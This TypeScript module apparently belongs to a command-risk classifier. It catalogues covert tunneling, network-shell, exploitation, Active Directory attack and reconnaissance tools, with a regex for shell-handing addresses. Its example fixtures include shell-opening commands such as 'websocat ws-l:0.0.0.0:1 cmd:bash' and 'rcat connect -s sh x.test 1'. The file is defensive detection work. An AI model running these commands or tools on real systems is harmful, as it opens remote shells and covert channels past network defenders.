import { literalText, type Word } from '../../core/word.ts';
import type { Draft } from '../draft.ts';
import type { Family } from '../model.ts';
import { opensLogin } from './tunnels.ts';

/** `cmd:bash` of websocat is what each connection is given; `tcp://2222:localhost:22` of wstunnel lets people in. */
function handsOut(argv: readonly Word[]): Draft[] {
  return [
    ...argv
      .filter(one => SHELL_ADDRESS.test(literalText(one)))
      .map((target): Draft => ({ kind: 'execute', target, on: 'resource', deed: 'network-shell' })),
    ...opensLogin(argv),
  ];
}

const SHELL_ADDRESS = /^(?:cmd|sh-c|exec):["']?(?:\S{0,64}\/)?(?:ba|z|da|k)?sh\b/;

/** Ways out of a network that are there so that nobody who guards it sees them, and shells over them. */
export const COVERT: Family = {
  names:
    'gsocket iodine iodined dnscat dnscat2 dns2tcp dns2tcpc ptunnel ptunnel-ng icmptunnel icmpsh hans udp2raw dnsteal DNSExfiltrator gs-netcat blitz pwncat pwncat-cs rcat rustcat websocat wstunnel sshuttle stunnel4 redsocks dante microsocks 3proxy goproxy v2ray xray trojan-go shadowsocks ss-server ss-local tor msfconsole msfvenom msfdb empire sliver-server sliver-client villain weevely beef crackmapexec2 enum4linux kerbrute GetNPUsers.py GetUserSPNs.py ntlmrelayx.py lookupsid.py smbmap rpcclient ldapdomaindump bloodhound-python certipy mitm6 getTGT.py ticketer.py dnsrecon theHarvester whatweb wpscan amass subfinder feroxbuster dirsearch searchsploit cewl crunch gitleaks trufflehog detect-secrets git-secrets ggshield talisman',
  models: () => ({
    'iodine|iodined|dnscat|dnscat2|dns2tcp|dns2tcpc|ptunnel|ptunnel-ng|icmptunnel|icmpsh|hans|udp2raw|dnsteal|DNSExfiltrator':
      {
        options: 'f P= p= d= m= T= O= L= s=send:connect c=send:connect dns= secret= x= z= r= h+ask v',
        does: 'send:covert@res*',
        examples: { 'iodine --help': '', 'iodine x.test': 'send' },
      },
    'rcat|rustcat': {
      options: 's|shell=execute:network-shell@res p= l!listen:netcat i b c u h+ask',
      verbs: { 'connect|c': 'send:connect', 'listen|l': 'listen:netcat+' },
      examples: { 'rcat --help': '', 'rcat connect -s sh x.test 1': 'execute send' },
    },
    gsocket: {
      does: 'execute:network-shell+@res',
      examples: { 'gsocket --help': '', 'gsocket /bin/bash': 'execute' },
    },
    'gs-netcat|blitz|pwncat|pwncat-cs': {
      options:
        'self-inject=execute:network-shell@res s= k=read l!listen:remote-login i!execute:network-shell e=execute:network-shell@res c= p= d r',
      does: 'send:connect',
      examples: { 'gs-netcat --help': '', 'gs-netcat -i': 'execute', 'gs-netcat x.test': 'send' },
    },
    'websocat|wstunnel|sshuttle|stunnel4|redsocks|dante|microsocks|3proxy|goproxy|v2ray|xray|trojan-go|shadowsocks|ss-server|ss-local|tor':
      {
        options:
          'r|remote= c|config=read f=read p= l= e= x= D q v L= R=listen:reverse-tunnel@res dns exclude=',
        posix: true,
        special: handsOut,
        examples: {
          'websocat cmd:ls ws://x.test': '',
          'websocat ws-l:0.0.0.0:1 cmd:bash': 'execute',
          'websocat --version': '',
          'websocat -R 1:localhost:2': 'listen',
        },
      },
    'msfconsole|msfvenom|msfdb|empire|sliver-server|sliver-client|villain|weevely|beef|crackmapexec2': {
      options: 'x=execute:code@res r=read q p= f= o=write e= i= a= LHOST= LPORT= payload= l|list+ask',
      does: 'execute:exploit+@res',
      examples: { 'msfvenom --list payloads': '', 'msfconsole -q': 'execute' },
    },
    'enum4linux|kerbrute|GetNPUsers.py|GetUserSPNs.py|ntlmrelayx.py|lookupsid.py|smbmap|rpcclient|ldapdomaindump|bloodhound-python|certipy|mitm6|getTGT.py|ticketer.py|dnsrecon|theHarvester|whatweb|wpscan|amass|subfinder|feroxbuster|dirsearch|searchsploit|cewl|crunch':
      {
        options: 'u= p= d= h= H= o=write w=read U=read P=read t= request hashes= target= dc-ip=',
        does: 'send:probe*',
        examples: { 'enum4linux --help': '', 'enum4linux 10.0.0.1': 'send' },
      },
    'gitleaks|trufflehog|detect-secrets|git-secrets|ggshield|talisman': {
      options: 's|source=read:list report-path=write r=write c|config=read b= f= scan json only-verified',
      verbs: { 'detect|protect|git|dir|filesystem|scan|audit|stdin|github|version|--version': '' },
      examples: { 'gitleaks detect': '', 'gitleaks detect -r /etc/x': 'write' },
    },
  }),
};
